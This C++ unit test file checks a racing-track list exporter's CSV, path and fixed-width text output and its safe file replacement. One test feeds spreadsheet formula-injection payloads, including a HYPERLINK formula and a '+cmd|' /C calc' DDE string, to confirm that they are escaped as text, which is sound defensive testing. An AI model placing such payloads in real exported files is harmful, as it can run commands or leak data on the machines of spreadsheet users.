#include <gtest/gtest.h>

#include "library/list_export.h"
#include "platform/file_replacement.h"
#include "support/catalogue_of.h"
#include "support/temp_dir.h"
#include "tools/track_writer.h"

namespace pitbox::test {
namespace {

const std::string kHead = "Trackname  Worlsize  Tracklenght  Author  Record/FastLap Path\r\n";

const std::string kThirtyN(30, 'n');
const std::string kThirtyA(30, 'a');

// The forms for other programs: whole fields, quoted only where they must be.
TEST(ListExport, CsvAndPathsForOtherPrograms) {
    const Catalogue c = catalogueOf(
        {{"Ring, \"the\" long one is long enough", "M\u00E4kinen", 255, -25536, "Ann Bob", "/t/a,b.trk", false},
         {"Hill", "", 0, 0, "", "/t/line\nfeed.trk", false}});
    EXPECT_EQ(
        exportListAs(c.entries(), ListFormat::Csv),
        "\xEF\xBB\xBFTrack,WS,Length,Author,Record/FL,Path,Status\r\n"
        "\"Ring, \"\"the\"\" long one is long enough\",255,-25536,M\u00E4kinen,Ann Bob,\"/t/a,b.trk\",not read\r\n"
        "Hill,0,0,,,\"/t/line\nfeed.trk\",not read\r\n");
    const std::string grouped =
        exportListAs(c.entries(), ListFormat::Csv, [](const TrackEntry& e) { return e.worldSize == 0 ? 2u : 1u; });
    EXPECT_NE(grouped.find("Path,Status,Group\r\n"), std::string::npos);
    EXPECT_NE(grouped.find("b.trk\",not read,1\r\nHill"), std::string::npos);
    EXPECT_TRUE(grouped.ends_with("feed.trk\",not read,2\r\n"));
    EXPECT_EQ(exportListAs(c.entries(), ListFormat::Paths), "/t/a,b.trk\n/t/line\nfeed.trk\n");
    EXPECT_EQ(exportListAs(c.entries(), ListFormat::PathsNul), std::string("/t/a,b.trk\0/t/line\nfeed.trk\0", 28));
}

// What a spreadsheet would run stays text; what the program writes as a
// number stays one; every export but the raw paths is UTF-8; the Status says
// what the row does.
TEST(ListExport, CsvCellsASpreadsheetReadsAsText) {
    struct Case {
        const char* what;
        TableTrack entry;
        const char* problem;
        std::string row;
    };
    const auto read = [](TableTrack t, TrackState state) {
        t.state = state;
        return t;
    };
    const Case cases[] = {
        {"a formula as the author",
         read({"Ring", "=HYPERLINK(\"http://x\"&A1,\"Click\")", 5, -3, "", "/t/Ring.trk", false}, TrackState::Scanned),
         "", "Ring,5,-3,\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"Click\"\")\",,/t/Ring.trk,read"},
        {"every sign a formula starts with",
         {"=1+1", "@SUM(A1)", 0, 0, "+cmd|' /C calc'!A0", "/t/=1+1.trk", false},
         "",
         "'=1+1,0,0,'@SUM(A1),'+cmd|' /C calc'!A0,/t/=1+1.trk,not read"},
        {"a minus, a tab and a carriage return",
         {"-x", "\tTab", 0, 0, "\rCR", "/t/-x.trk", false},
         "",
         "'-x,0,0,'\tTab,\"'\rCR\",/t/-x.trk,not read"},
        {"a name that is no UTF-8",
         read({"Caf\xe9 Ring", "", 0, 0, "", "/t/Caf\xe9 Ring.trk", false}, TrackState::OldFormat), "",
         "Caf\u00e9 Ring,0,0,,,/t/Caf\u00e9 Ring.trk,old format"},
        {"damaged, with its reason", read({"Cut", "", 0, 0, "", "/t/Cut.trk", false}, TrackState::Damaged),
         "/t/Cut.trk: too short", "Cut,0,0,,,/t/Cut.trk,damaged: too short"},
        {"unreadable, with its reason", read({"No", "", 0, 0, "", "/t/No.trk", false}, TrackState::Unreadable),
         "/t/No.trk: Permission denied", "No,0,0,,,/t/No.trk,unreadable: Permission denied"},
    };
    for (const Case& k : cases) {
        Catalogue c = catalogueOf({k.entry});
        c.setText(c[0].problem, k.problem);
        const std::string csv = exportListAs(c.entries(), ListFormat::Csv);
        EXPECT_EQ(csv.substr(csv.find("\r\n") + 2), k.row + "\r\n") << k.what;
    }
    const Catalogue odd = catalogueOf({{"Caf\xe9", "", 0, 0, "", "/t/Caf\xe9.trk", false}});
    EXPECT_EQ(exportListAs(odd.entries(), ListFormat::Paths), "/t/Caf\xe9.trk\n") << "paths stay raw";
    EXPECT_NE(exportListText(odd.entries()).find("Caf\u00e9"), std::string::npos) << "the text list is UTF-8";
}

TEST(ListExport, EmptyCatalogueGivesThreeLines) {
    EXPECT_EQ(exportListText(Catalogue().entries()), "0 Tracks\r\n" + kHead + " \r\n");
}

TEST(ListExport, FixedWidthLines) {
    struct Case {
        const char* what;
        TableTrack entry;
        std::string line;
    };
    const Case cases[] = {
        {"fresh entry",
         {"Ring", "", 0, 0, " ", "/t/Ring.trk", false},
         "Ring" + std::string(21, ' ') + " 0       0       " + std::string(30, ' ') + std::string(30, ' ') +
             " /t/Ring.trk\r\n"},
        {"long name cut to 25",
         {kThirtyN, "A", 255, -25536, "Ann Bob", "/p", false},
         std::string(25, 'n') + " 255     -25536  A" + std::string(29, ' ') + "Ann Bob" + std::string(23, ' ') +
             " /p\r\n"},
        {"30-character author runs into the record",
         {"x", kThirtyA, 1, 2, "r", "/p", false},
         "x" + std::string(24, ' ') + " 1       2       " + std::string(30, 'a') + "r" + std::string(29, ' ') +
             " /p\r\n"},
        {"wide number written whole",
         {"x", "", 1, 40000000, "", "/p", false},
         "x" + std::string(24, ' ') + " 1       40000000 " + std::string(60, ' ') + " /p\r\n"},
        {"most negative length",
         {"x", "", 0, INT32_MIN, "", "/p", false},
         "x" + std::string(24, ' ') + " 0       -2147483648 " + std::string(60, ' ') + " /p\r\n"},
        {"characters, not bytes",
         {"\xC3\xA9", "J\xC3\xB6rg", 0, 0, "", "/\xC3\xA9.trk", false},
         "\xC3\xA9" + std::string(24, ' ') + " 0       0       J\xC3\xB6rg" + std::string(26, ' ') +
             std::string(30, ' ') + " /\xC3\xA9.trk\r\n"},
        {"control characters as symbols: one line per entry",
         {"a\r\nb", "x\r\n0 Tracks", 0, 0, "\t", "/t/\n.trk", false},
         "a\u240D\u240Ab" + std::string(21, ' ') + " 0       0       x\u240D\u240A0 Tracks" + std::string(19, ' ') +
             "\u2409" + std::string(29, ' ') + " /t/\u240A.trk\r\n"},
    };
    for (const auto& c : cases) EXPECT_EQ(exportLine(entryOf(c.entry)), c.line) << c.what;
    EXPECT_EQ(exportListText(catalogueOf({cases[0].entry, cases[1].entry}).entries()),
              "2 Tracks\r\n" + kHead + " \r\n" + cases[0].line + cases[1].line);
}

TEST(FileReplacement, ReplacesWholeOrNotAtAll) {
    TempDir dir;
    const std::string target = dir / "list.txt";
    saveFile(target, {'o', 'l', 'd'});
    EXPECT_TRUE(platform::replaceFile(target, "new text"));
    const auto now = readFile(target);
    EXPECT_EQ(std::string(now.begin(), now.end()), "new text");
    EXPECT_EQ(dir.list(), std::vector<std::string>{"list.txt"});

    // A folder in the way, a missing folder: errors, nothing left behind.
    dir.mkdirs("taken.txt");
    EXPECT_FALSE(platform::replaceFile(dir / "taken.txt", "x"));
    EXPECT_FALSE(platform::replaceFile(dir / "missing/list.txt", "x"));
    EXPECT_EQ(dir.list(), (std::vector<std::string>{"list.txt", "taken.txt"}));
}

}  // namespace
}  // namespace pitbox::test
